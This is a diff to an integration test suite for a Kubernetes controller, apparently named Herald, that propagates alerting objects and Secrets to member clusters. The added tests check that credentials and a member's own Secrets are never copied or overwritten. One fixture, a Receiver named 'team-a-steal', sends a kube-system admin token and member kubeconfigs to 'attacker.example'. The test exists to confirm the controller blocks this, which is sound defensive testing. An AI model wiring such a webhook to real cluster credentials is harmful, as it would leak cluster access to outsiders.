@@ -3,6 +3,8 @@
  * agent process per member. Objects applied on the host appear on the members (with member-b's
  * override), each member stamps its own name, changes and deletions follow, a hand edit is
  * repaired, a member that is down does not hold up the other, and status says so at each step.
+ * Secrets travel only from allowed namespaces, never a member's kubeconfig or a ServiceAccount
+ * token, and never over a member's own Secret (F3).
  */
 import { fileURLToPath } from 'node:url';
 import { CustomObjectsApi, type KubeConfig } from '@kubernetes/client-node';
@@ -45,12 +47,12 @@ beforeAll(async () => {
   set = await startClusters({ names: ['hub', 'member-a', 'member-b'] });
   host = set.kubeConfig('hub');
   sink = await startHttpServer({ handler: () => ({ status: 200, body: 'ok' }) });
-  await registerMembers(host, set, { 'member-a': { env: 'prod', region: 'eu' }, 'member-b': { env: 'prod', region: 'us' } });
+  await registerMembers(host, set, { 'member-a': { env: 'prod', region: 'eu' }, 'member-b': { env: 'prod', region: 'us' } }, { secretNamespaces: ['apps'] });
   const examples = await loadManifests(fileURLToPath(new URL('../../examples/', import.meta.url)));
   for (const m of examples) if (m.object.kind !== 'MemberCluster' && m.object.kind !== 'Namespace') await apply(host, m.object);
   await apply(host, { apiVersion: API, kind: 'Receiver', metadata: { name: 'sink', labels: { type: 'global' } }, spec: { webhook: { url: sink.origin } } } as never);
   await apply(host, { apiVersion: API, kind: 'Settings', metadata: { name: 'default' }, spec: { batchMaxWait: '0s', stampLabels: ['region'] } } as never);
-  controller = new PropagationController({ kc: host, log: (e) => logs.push(e), resyncMs: 1000, maxBackoffMs: 2000, failureThresholdMs: 3000 });
+  controller = new PropagationController({ kc: host, log: (e) => logs.push(e), resyncMs: 1000, maxBackoffMs: 2000, failureThresholdMs: 3000, secretNamespaces: ['herald-system', 'apps'] });
   await controller.start();
 }, 120_000);
 
@@ -69,8 +71,10 @@ describe('propagation from the host to two members', () => {
     }
     expect(field(await get(member('member-a'), 'receivers', 'global-slack'), 'spec.slack.channels')).toEqual(['#alerts']);
     expect(field(await get(member('member-b'), 'receivers', 'global-slack'), 'spec.slack.channels')).toEqual(['#alerts-member-b']);
-    // Referenced Secrets travel with the objects.
-    await rawRequest(member('member-a'), 'GET', '/api/v1/namespaces/herald-system/secrets/default-email-secret');
+    // Referenced Secrets travel with the objects, marked as Herald's: its label and the host Secret copied.
+    const copied = JSON.parse(await rawRequest(member('member-a'), 'GET', '/api/v1/namespaces/herald-system/secrets/default-email-secret')) as { metadata: { labels: Record<string, string>; annotations: Record<string, string> } };
+    expect(copied.metadata.labels['app.kubernetes.io/managed-by']).toBe('herald');
+    expect(copied.metadata.annotations['herald.dev/copied-from']).toBe('herald-system/default-email-secret');
     // A webhook URL kept in a Secret (urlFrom) travels the same way.
     await until('the urlFrom Secret on member-a', () =>
       rawRequest(member('member-a'), 'GET', '/api/v1/namespaces/herald-system/secrets/incident-hook-url').then(() => true, () => false),
@@ -164,6 +168,99 @@ describe('propagation from the host to two members', () => {
       const secret = JSON.parse(await rawRequest(member(name), 'GET', '/api/v1/namespaces/herald-system/secrets/orphan-token')) as { metadata: { labels?: Record<string, string> } };
       expect(secret.metadata.labels ?? {}).not.toHaveProperty('app.kubernetes.io/managed-by');
     }
+  });
+
+  it('copies no Secret from outside the allowed namespaces, no member kubeconfig, no ServiceAccount token (F3)', async () => {
+    await apply(host, { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'host-admin-token', namespace: 'kube-system' }, stringData: { token: 'HOST-KUBE-SYSTEM-TOKEN-001' } } as never);
+    // member-b registered the old way: its kubeconfig beside the Secrets Herald objects may reference.
+    const kubeconfigB = (JSON.parse(await rawRequest(host, 'GET', '/api/v1/namespaces/herald-clusters/secrets/member-b-kubeconfig')) as { data: Record<string, string> }).data;
+    await apply(host, { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'member-b-kubeconfig', namespace: 'herald-system' }, data: kubeconfigB } as never);
+    await rawRequest(host, 'PATCH', `/apis/${API}/memberclusters/member-b`, { contentType: 'application/merge-patch+json', body: JSON.stringify({ spec: { kubeconfigSecretRef: { namespace: 'herald-system' } } }) });
+    await apply(host, {
+      apiVersion: 'v1',
+      kind: 'Secret',
+      type: 'kubernetes.io/service-account-token',
+      metadata: { name: 'sa-token', namespace: 'herald-system', annotations: { 'kubernetes.io/service-account.name': 'default' } },
+      stringData: { token: 'SA-TOKEN-003' },
+    } as never);
+    const ref = (namespace: string, name: string, key: string) => ({ valueFrom: { secretKeyRef: { namespace, name, key } } });
+    const tenant = { type: 'tenant', namespace: 'team-a' };
+    await apply(host, {
+      apiVersion: API,
+      kind: 'Receiver',
+      metadata: { name: 'team-a-steal', labels: tenant },
+      spec: {
+        webhook: {
+          url: 'https://attacker.example/',
+          httpConfig: {
+            bearerToken: ref('kube-system', 'host-admin-token', 'token'),
+            tlsConfig: { rootCA: ref('herald-system', 'member-b-kubeconfig', 'kubeconfig'), clientCertificate: { cert: ref('herald-clusters', 'member-a-kubeconfig', 'kubeconfig'), key: ref('herald-system', 'default-email-secret', 'password') } },
+          },
+        },
+      },
+    } as never);
+    await apply(host, { apiVersion: API, kind: 'Config', metadata: { name: 'team-a-token', labels: tenant }, spec: { slack: { slackTokenSecret: ref('herald-system', 'sa-token', 'token') } } } as never);
+    const outcomes = async (plural: string, name: string): Promise<Record<string, string>> => {
+      const clusters = (field(await get(host, plural, name), 'status.clusters') as { name: string; state: string; message?: string }[] | undefined) ?? [];
+      return Object.fromEntries(clusters.map((c) => [c.name, `${c.state}: ${c.message ?? ''}`]));
+    };
+    // Both members have reconciled both objects once their status says so.
+    await until('both objects reconciled on both members', async () => Object.keys(await outcomes('receivers', 'team-a-steal')).length === 2 && Object.keys(await outcomes('configs', 'team-a-token')).length === 2);
+    // Nothing that references them reached a member, and neither did they.
+    for (const name of ['member-a', 'member-b']) {
+      for (const path of ['kube-system/secrets/host-admin-token', 'herald-system/secrets/member-b-kubeconfig', 'herald-clusters/secrets/member-a-kubeconfig', 'herald-system/secrets/sa-token']) {
+        await expect(rawRequest(member(name), 'GET', `/api/v1/namespaces/${path}`), `${name}: ${path}`).rejects.toThrow(/HTTP 404/);
+      }
+      expect(await get(member(name), 'receivers', 'team-a-steal')).toBeUndefined();
+      expect(await get(member(name), 'configs', 'team-a-token')).toBeUndefined();
+    }
+    for (const [name, message] of Object.entries(await outcomes('receivers', 'team-a-steal'))) {
+      expect(message, name).toMatch(/^ApplyFailed: /);
+      expect(message, name).toContain('Secret kube-system/host-admin-token is not in an allowed namespace (herald-host --secret-namespace: herald-system, apps)');
+      expect(message, name).toContain("Secret herald-system/member-b-kubeconfig is the kubeconfig of MemberCluster member-b; Herald never propagates a member's credentials");
+      expect(message, name).toContain('Secret herald-clusters/member-a-kubeconfig is the kubeconfig of MemberCluster member-a');
+    }
+    for (const message of Object.values(await outcomes('configs', 'team-a-token'))) {
+      expect(message).toBe('ApplyFailed: Secret herald-system/sa-token is of type kubernetes.io/service-account-token; Herald never propagates ServiceAccount tokens');
+    }
+    for (const [plural, name] of [['receivers', 'team-a-steal'], ['configs', 'team-a-token']] as const) await rawRequest(host, 'DELETE', `/apis/${API}/${plural}/${name}`);
+  });
+
+  it('never overwrites or deletes a member’s own Secret of the same name (F3)', async () => {
+    await rawRequest(host, 'POST', '/api/v1/namespaces', { body: JSON.stringify({ metadata: { name: 'apps' } }) });
+    await apply(host, { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'db-tls', namespace: 'apps' }, stringData: { 'ca.crt': 'ATTACKER-REPLACED' } } as never);
+    // member-a's own Secret, and member-b's, which someone labelled managed-by=herald by hand.
+    const own = { 'member-a': { data: 'MEMBER-A-OWN', labels: {} }, 'member-b': { data: 'MEMBER-B-OWN', labels: { 'app.kubernetes.io/managed-by': 'herald' } } };
+    for (const [name, o] of Object.entries(own)) {
+      await apply(member(name), { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'db-tls', namespace: 'apps', labels: o.labels }, stringData: { 'ca.crt': o.data } } as never);
+    }
+    await apply(host, {
+      apiVersion: API,
+      kind: 'Receiver',
+      metadata: { name: 'db-webhook', labels: { type: 'global' } },
+      spec: { webhook: { url: sink.origin, httpConfig: { tlsConfig: { rootCA: { valueFrom: { secretKeyRef: { namespace: 'apps', name: 'db-tls', key: 'ca.crt' } } } } } } },
+    } as never);
+    const states = async (): Promise<(Entry & { message?: string })[]> => entries(await get(host, 'receivers', 'db-webhook'), 'status.clusters');
+    await until('db-webhook reconciled on both members', async () => (await states()).length === 2);
+    const untouched = async (): Promise<void> => {
+      for (const [name, o] of Object.entries(own)) {
+        const s = JSON.parse(await rawRequest(member(name), 'GET', '/api/v1/namespaces/apps/secrets/db-tls')) as { data: Record<string, string>; metadata: { labels?: Record<string, string>; annotations?: Record<string, string> } };
+        expect(Buffer.from(s.data['ca.crt'] ?? '', 'base64').toString(), name).toBe(o.data);
+        expect(s.metadata.labels ?? {}, name).toEqual(o.labels);
+        expect(s.metadata.annotations ?? {}, name).not.toHaveProperty('herald.dev/copied-from');
+        // The Receiver would read the member's Secret: it is not placed there either.
+        expect(await get(member(name), 'receivers', 'db-webhook'), name).toBeUndefined();
+      }
+    };
+    await untouched();
+    for (const c of await states()) {
+      expect([c.state, c.message]).toEqual(['ApplyFailed', `Secret apps/db-tls exists on ${c.name} and was not created by Herald; Herald will not overwrite it`]);
+    }
+    await rawRequest(host, 'DELETE', `/apis/${API}/receivers/db-webhook`);
+    await until('db-webhook gone from the host', async () => (await get(host, 'receivers', 'db-webhook')) === undefined);
+    // Several resyncs (1 s) later the members' Secrets are still there, as they were.
+    await new Promise((r) => setTimeout(r, 3000));
+    await untouched();
   });
 
   it('with member-b down: member-b turns not Ready, member-a keeps receiving changes, and member-b converges after', async () => {
